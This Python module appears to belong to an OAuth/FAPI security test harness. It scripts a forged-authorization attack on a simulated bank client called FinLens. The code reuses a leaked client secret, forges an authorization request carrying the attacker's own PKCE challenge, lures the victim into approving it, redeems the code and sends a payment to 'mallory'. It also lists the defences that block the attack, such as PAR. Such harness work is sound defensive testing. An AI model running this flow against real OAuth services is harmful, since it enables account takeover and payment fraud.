"""pkce-chosen-challenge: a forged authorization request carrying the attacker's challenge.

A1 + A3b + A4: FinLens's client secret leaks on the token leg (legacy FinLens sends
client_secret_post, so it is in the request body). The attacker writes an authorization
request as FinLens (client_id, FinLens's redirect URI, payment scope) with a challenge of
its own, lures the victim into approving it, reads the code on the authz_response leg and
redeems it as FinLens with its verifier: PKCE proves only that the redeemer wrote the
request, not that the client did (BCP §2.1.1). PAR stops it: pushing needs FinLens's client
authentication (RFC 9126 §2.1, FAPI2 §5.3.2.2); an asymmetric key leaks nothing reusable
(FAPI2 §5.3.2.1).
"""

from __future__ import annotations

import secrets
from urllib.parse import urlencode

from attacker import frontchannel as fc
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import PAYMENT_GOAL_BLOCKERS, Attack
from attacker.capture_view import Leaked
from attacker.inject import jarm_only, response_fields
from attacker.login_support import pkce_pair
from attacker.premises import linked_victim

AMOUNT = "250.00"


def _is_code_redemption(leaked: Leaked) -> bool:
    return leaked.method == "POST" and leaked.form().get("grant_type") == "authorization_code"


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    form = ctx.capture.last("token", where=_is_code_redemption).form()
    secret = form.get("client_secret")
    if not secret:
        ctx.failed("the captured token request carries no client secret")
    client_id, redirect_uri = form["client_id"], form["redirect_uri"]
    ctx.step("attacker", "reads FinLens's client_id and client_secret in a token request on "
             "the token leg")
    verifier, challenge = pkce_pair()
    params = {"response_type": "code", "client_id": client_id, "redirect_uri": redirect_uri,
              "scope": f"{fc.FINLENS_SCOPE} {fc.PAYMENT_SCOPE}",
              "state": secrets.token_urlsafe(16), "nonce": secrets.token_urlsafe(16),
              "code_challenge": challenge, "code_challenge_method": "S256"}
    if jarm_only(ctx):
        params["response_mode"] = "jwt"
    forged = ctx.url("as", "/authorize") + "?" + urlencode(params)
    ctx.step("attacker", "writes an authorization request as FinLens with payment scope and "
             "its own code_challenge, and sends it to the victim", url=forged)
    fc.lure_to_authorize(victim, forged)
    code = response_fields(fc.victims_response(ctx).location_params()).get("code")
    if not code:
        ctx.failed("no code in the victim's authorization response")
    ctx.step("attacker", "reads the code on the authz_response leg")
    # an AS that binds tokens to keys binds this one to the attacker's own DPoP key: the
    # forged request names no dpop_jkt, so nothing ties the code to FinLens's key
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    token = ts.post_token(ctx, {"grant_type": "authorization_code", "code": code,
                                "redirect_uri": redirect_uri, "code_verifier": verifier,
                                "client_id": client_id, "client_secret": secret},
                          signer=signer, what="redeems the code as FinLens with the leaked "
                          "secret and its own code_verifier")
    tokens = ts.tokens_or_fail(ctx, token, "the AS refused to redeem the code")
    listed = ts.bank(ctx, "GET", "/accounts", tokens, signer=signer,
                     what="GET /accounts with the new token")
    accounts = listed.json().get("accounts", []) if listed.status_code == 200 else []
    debtor = next((a for a in accounts if a.get("type") == "checking"),
                  accounts[0] if accounts else None)
    if debtor is None:
        ctx.failed("the token lists no account to pay from", listed)
    payment = ts.bank(ctx, "POST", "/payments", tokens, signer=signer,
                      what=f"POST /payments: {AMOUNT} EUR from the victim's account to mallory",
                      body={"debtor_account_id": debtor["account_id"],
                            "creditor": {"name": "Mallory Mallet", "iban": fc.own_iban(ctx)},
                            "instructed_amount": {"amount": AMOUNT,
                                                  "currency": debtor["currency"]},
                            "reference": "Invoice 4711"})
    if payment.status_code != 201:
        ctx.failed("the bank refused the payment", payment)
    ctx.succeeded(f"paid {AMOUNT} {debtor['currency']} from {victim.username}'s "
                  f"{debtor['name']} to mallory", payment.json())


ATTACK = Attack(
    id="pkce-chosen-challenge", attacker="A1 + A3b + A4", legs=("authz_response", "token"),
    title="Forged request carrying the attacker's challenge",
    blocked_by=("par_required", "jar_required", "private_key_jwt_only"),
    victim="live", needs={"client_auth": "client_secret_post"},
    premise="Holds FinLens's client secret from a token request on the token leg (the premise "
            "needs a secret-based FinLens: client_secret_post); reads authorization responses; "
            "sends the victim links.",
    goal="a payment from the victim's account to mallory", run=run,
    refs=("BCP §2.1.1", "FAPI2 §5.3.2.2", "FAPI2 §5.3.3.2", "RFC 9126 §2.1"),
    also_blocked_by={
        **PAYMENT_GOAL_BLOCKERS,
    },
)
